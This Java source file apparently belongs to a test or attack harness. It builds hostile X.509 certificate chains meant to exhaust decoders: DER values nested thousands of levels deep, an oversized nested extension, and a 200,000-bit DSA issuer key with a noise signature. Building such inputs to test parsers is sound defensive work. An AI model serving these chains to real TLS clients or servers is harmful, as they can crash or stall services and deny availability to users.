package dev.parallax.attack;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.math.BigInteger;
import java.security.GeneralSecurityException;
import java.security.KeyPairGenerator;
import java.security.spec.ECGenParameterSpec;
import java.time.Duration;
import java.time.Instant;
import java.util.Date;
import java.util.List;
import java.util.Random;
import org.bouncycastle.asn1.ASN1Integer;
import org.bouncycastle.asn1.ASN1ObjectIdentifier;
import org.bouncycastle.asn1.DERSequence;
import org.bouncycastle.asn1.nist.NISTObjectIdentifiers;
import org.bouncycastle.asn1.x500.X500Name;
import org.bouncycastle.asn1.x509.AlgorithmIdentifier;
import org.bouncycastle.asn1.x509.DSAParameter;
import org.bouncycastle.asn1.x509.Extension;
import org.bouncycastle.asn1.x509.GeneralName;
import org.bouncycastle.asn1.x509.GeneralNames;
import org.bouncycastle.asn1.x509.SubjectPublicKeyInfo;
import org.bouncycastle.asn1.x9.X9ObjectIdentifiers;
import org.bouncycastle.cert.X509v3CertificateBuilder;
import org.bouncycastle.operator.ContentSigner;

/** Certificate chains, leaf first, in DER, that cost the decoder more than the sender. */
public final class HostileCertificates {
  /** Deep enough for 33 KB: four bytes of tag and length a level. */
  private static final int DEEP = 8_400;

  private static final int INTERMEDIATE_DEPTH = 1_000;
  private static final int DSA_BITS = 200_000;
  private static final int EXPLICIT = 0xa0;
  private static final int SEQUENCE = 0x30;
  private static final AlgorithmIdentifier DSA_SIGNATURE =
      new AlgorithmIdentifier(NISTObjectIdentifiers.dsa_with_sha256);
  private static final ASN1ObjectIdentifier EXPERIMENTAL =
      new ASN1ObjectIdentifier("1.3.6.1.4.1.99999.1");
  private static final Random NOISE = new Random(12);

  private HostileCertificates() {}

  /** Not a certificate: values in each other, 33 KB. */
  public static List<byte[]> nestedValue() {
    return List.of(nested(EXPLICIT, DEEP));
  }

  /** Nested values of any tag, to a given depth. */
  public static byte[] nestedValue(int tag, int levels) {
    return nested(tag, levels);
  }

  /** A leaf for a host with an extension that is values in each other, 33 KB. */
  public static List<byte[]> nestedExtension(String host) {
    return List.of(certificate(host, host, smallKey(), nested(EXPLICIT, DEEP)));
  }

  /** An ordinary leaf, then an intermediate of 1,000 values in each other. */
  public static List<byte[]> nestedIntermediate(String host) {
    return List.of(
        certificate(host, "nested", smallKey(), new byte[0]), nested(SEQUENCE, INTERMEDIATE_DEPTH));
  }

  /** A leaf whose issuer, in the chain, has a DSA key of 200,000 bits. */
  public static List<byte[]> hugeKey(String host) {
    return List.of(
        certificate(host, "huge", smallKey(), new byte[0]),
        certificate("huge", "huge", dsaKey(), new byte[0]));
  }

  private static byte[] certificate(
      String subject, String issuer, SubjectPublicKeyInfo key, byte[] extension) {
    var now = Instant.now();
    try {
      var builder =
          new X509v3CertificateBuilder(
              new X500Name("CN=" + issuer),
              BigInteger.ONE,
              Date.from(now.minus(Duration.ofDays(1))),
              Date.from(now.plus(Duration.ofDays(30))),
              new X500Name("CN=" + subject),
              key);
      builder.addExtension(
          Extension.subjectAlternativeName,
          false,
          new GeneralNames(new GeneralName(GeneralName.dNSName, subject)));
      if (extension.length > 0) {
        builder.addExtension(new Extension(EXPERIMENTAL, false, extension));
      }
      return builder.build(new NoiseSigner()).getEncoded();
    } catch (IOException impossible) {
      throw new IllegalStateException(impossible);
    }
  }

  private static SubjectPublicKeyInfo smallKey() {
    try {
      var generator = KeyPairGenerator.getInstance("EC");
      generator.initialize(new ECGenParameterSpec("secp256r1"));
      return SubjectPublicKeyInfo.getInstance(generator.generateKeyPair().getPublic().getEncoded());
    } catch (GeneralSecurityException impossible) {
      throw new IllegalStateException(impossible);
    }
  }

  private static SubjectPublicKeyInfo dsaKey() {
    var parameters = new DSAParameter(odd(DSA_BITS), odd(DSA_BITS - 8), BigInteger.TWO);
    try {
      return new SubjectPublicKeyInfo(
          new AlgorithmIdentifier(X9ObjectIdentifiers.id_dsa, parameters),
          new ASN1Integer(odd(DSA_BITS - 1)));
    } catch (IOException impossible) {
      throw new IllegalStateException(impossible);
    }
  }

  private static BigInteger odd(int bits) {
    return new BigInteger(bits, NOISE).setBit(bits - 1).setBit(0);
  }

  /** Values in each other, each of this tag. */
  static byte[] nested(int tag, int levels) {
    var reversed = new ByteArrayOutputStream();
    int size = 0;
    for (int level = 0; level < levels; level++) {
      // Written backwards, so that the last byte of a header comes first.
      int before = reversed.size();
      if (size < 0x80) {
        reversed.write(size);
      } else {
        int bytes = size < 0x1_0000 ? 2 : 3;
        for (int shift = 0; shift < bytes; shift++) {
          reversed.write(size >> (8 * shift));
        }
        reversed.write(0x80 + bytes);
      }
      reversed.write(tag);
      size += reversed.size() - before;
    }
    return reverse(reversed.toByteArray());
  }

  private static byte[] reverse(byte[] bytes) {
    var turned = new byte[bytes.length];
    for (int i = 0; i < bytes.length; i++) {
      turned[i] = bytes[bytes.length - 1 - i];
    }
    return turned;
  }

  /** Signs with two numbers that no key verifies. */
  private static final class NoiseSigner implements ContentSigner {
    @Override
    public AlgorithmIdentifier getAlgorithmIdentifier() {
      return DSA_SIGNATURE;
    }

    @Override
    public OutputStream getOutputStream() {
      return OutputStream.nullOutputStream();
    }

    @Override
    public byte[] getSignature() {
      try {
        return new DERSequence(
                new ASN1Integer[] {
                  new ASN1Integer(new BigInteger(DSA_BITS - 16, NOISE)),
                  new ASN1Integer(new BigInteger(DSA_BITS - 16, NOISE))
                })
            .getEncoded();
      } catch (IOException impossible) {
        throw new IllegalStateException(impossible);
      }
    }
  }
}
